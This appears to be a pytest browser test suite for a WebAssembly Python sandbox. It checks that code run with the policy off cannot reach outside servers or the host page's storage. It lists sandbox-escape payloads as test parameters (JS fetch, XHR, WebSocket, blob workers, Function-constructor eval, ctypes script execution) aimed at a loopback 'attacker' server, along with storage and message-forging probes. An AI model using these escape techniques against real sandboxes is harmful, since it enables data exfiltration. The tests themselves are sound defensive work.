"""The browser boundary, tested with the Python policy off: no request reaches another server
(a loopback "attacker" counts hits), and the app page's storage is untouched."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.sandbox.conftest import SdkPage

pytestmark = pytest.mark.browser


class Attacker:
    """A loopback HTTP server that only counts what reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.server.shutdown()


@pytest.fixture(scope="module")
def open_sandbox(sdk: SdkPage) -> str:
    sdk.page.evaluate("appStorage.seed()")
    return sdk.create(policy="off")


SETTLE = "import asyncio\nawait asyncio.sleep(0.5)\n"

ATTACKS = [
    pytest.param("from js import fetch\nawait fetch('{url}/fetch')", id="js-fetch"),
    pytest.param("from pyodide.http import pyfetch\nawait pyfetch('{url}/pyfetch')", id="pyfetch"),
    pytest.param(
        "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\n"
        "x.open('GET', '{url}/xhr', False)\nx.send()",
        id="xhr",
    ),
    pytest.param(
        "from js import WebSocket\nws = WebSocket.new('{ws}/ws')\n" + SETTLE, id="websocket"
    ),
    pytest.param("import urllib.request\nurllib.request.urlopen('{url}/urllib')", id="urllib"),
    pytest.param(
        "from js import importScripts\nimportScripts('{url}/import.js')", id="importScripts"
    ),
    pytest.param(
        "import js\nfrom pyodide.ffi import to_js\n"
        "blob = js.Blob.new(to_js([\"fetch('{url}/nested')\"]))\n"
        "js.Worker.new(js.URL.createObjectURL(blob))\n" + SETTLE,
        id="nested-blob-worker",
    ),
    pytest.param(
        "import js\nfrom pyodide.ffi import to_js\n"
        "Function = to_js({{}}, dict_converter=js.Object.fromEntries).constructor.constructor\n"
        "Function(\"return fetch('{url}/function')\")()\n" + SETTLE,
        id="function-constructor",
    ),
    pytest.param(
        "import ctypes\nlib = ctypes.CDLL(None)\n"
        "lib.emscripten_run_script(b\"fetch('{url}/ctypes')\")\n" + SETTLE,
        id="ctypes-run-script",
    ),
    pytest.param("import js\njs.EventSource.new('{url}/sse')\n" + SETTLE, id="eventsource"),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_request_reaches_another_server(
    sdk: SdkPage, open_sandbox: str, attacker: Attacker, attack: str
) -> None:
    code = attack.format(url=attacker.url, ws=attacker.url.replace("http", "ws"))
    result = sdk.run(open_sandbox, code, timeoutMs=10_000)
    assert result["outcome"] != "OUTCOME_POLICY_VIOLATION", "the policy must be off here"
    assert attacker.hits == []
    assert sdk.page.evaluate("1 + 1") == 2


STORAGE_PROBES = [
    pytest.param("import js\nawait js.caches.keys()", id="cache-storage"),
    pytest.param("import js\njs.indexedDB.open('app-db')\n" + SETTLE, id="indexeddb"),
    pytest.param("import js\njs.BroadcastChannel.new('app').postMessage('forged')", id="broadcast"),
    pytest.param(
        "import js\nawait js.fetch('/runtime/manifest.json', credentials='include')",
        id="cookies-with-fetch",
    ),
    pytest.param(
        "import js\njs.postMessage(js.JSON.parse("
        '\'{{"type": "result", "id": 1, "runId": "x", "result": {{}}}}\'))',
        id="forged-worker-message",
    ),
]


@pytest.mark.parametrize("probe", STORAGE_PROBES)
def test_the_app_storage_is_out_of_reach(sdk: SdkPage, open_sandbox: str, probe: str) -> None:
    before = sdk.page.evaluate("appStorage.snapshot()")
    assert before["local"] == {"token": "app-secret"} and before["idb"] == "app-secret"
    result = sdk.run(open_sandbox, probe + "\nprint('probe done')")
    after = sdk.page.evaluate("appStorage.snapshot()")
    assert after == before
    assert result["stdout"] in ("", "probe done\n")
    assert "app-secret" not in str(result)


def test_forged_messages_on_the_page_are_ignored(sdk: SdkPage, open_sandbox: str) -> None:
    """Messages that do not come from the sandbox's own frame (or port) are dropped."""
    result = sdk.page.evaluate(
        """async id => {
            const sb = wasmbox.Sandbox.get(id);
            const run = sb.execute("import time; time.sleep(0.3); 'real'");
            const fake = { type: "frame-ready", isolated: true };
            window.postMessage(fake, "*");
            const forged = { type: "result", id: 1, runId: "x", result: {} };
            const frames = document.querySelectorAll("iframe");
            for (const f of frames) f.contentWindow.postMessage(forged, "*");
            return (await run).value["text/plain"];
        }""",
        open_sandbox,
    )
    assert result == "'real'"
    assert sdk.run(open_sandbox, "'still fine'")["value"]["text/plain"] == "'still fine'"


def test_sandbox_frame_is_an_opaque_origin(sdk: SdkPage, open_sandbox: str) -> None:
    attrs = sdk.page.evaluate(
        "[...document.querySelectorAll('iframe')].map(f => f.getAttribute('sandbox'))"
    )
    assert attrs and all(a == "allow-scripts" for a in attrs)
    origin = sdk.run(open_sandbox, "import js\njs.location.origin")["value"]["text/plain"]
    assert origin == "'null'"
